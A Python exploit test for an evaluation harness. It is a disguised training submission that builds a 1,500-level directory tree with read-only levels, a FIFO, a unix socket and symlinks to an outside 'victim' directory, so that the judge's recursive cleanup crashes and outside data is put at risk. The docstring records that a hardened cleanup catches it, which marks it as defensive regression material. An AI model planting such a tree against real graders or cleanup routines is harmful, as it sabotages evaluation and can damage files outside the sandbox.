"""EXPLOIT: a directory tree 1500 levels deep in the work directory, some of its levels
read-only, with a FIFO, a unix socket and, at every level, a symlink to a directory outside
the run (its path in `victim.txt` beside this file; the test writes it). shutil.rmtree in
the judge raised RecursionError, uncaught, and the run's directory stayed on disk.
Caught by: the judge's cleanup, which removes any tree without recursion, with a bounded
number of open files, never following a symlink."""

import os
import socket

from baseline.train import train as reference_train

DEPTH = 1500


def _plant(victim: str) -> None:
    """The special files, each where this isolation allows it (Landlock refuses FIFOs and,
    through its seccomp filter, sockets)."""
    plants = [("symlink", lambda: os.symlink(victim, "outside-top")),
              ("fifo", lambda: os.mkfifo("fifo")),
              ("socket", lambda: socket.socket(socket.AF_UNIX).bind("socket"))]
    for name, plant in plants:
        try:
            plant()
        except OSError as e:
            print(f"{name.upper()} REFUSED {type(e).__name__}", flush=True)


def train(cfg, init, tokens, batches):
    victim = open(os.path.join(os.path.dirname(__file__), "victim.txt")).read().strip()
    print("WORK", os.getcwd(), flush=True)
    _plant(victim)
    fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    for level in range(DEPTH):
        os.symlink(victim, "outside", dir_fd=fd)
        os.mkdir("d", dir_fd=fd)
        child = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        if level % 100 == 99:
            os.chmod(fd, 0o500)  # read-only once its child exists: an unlink inside fails
        os.close(fd)
        fd = child
    print("DEEP", DEPTH, flush=True)
    return reference_train(cfg, init, tokens, batches)
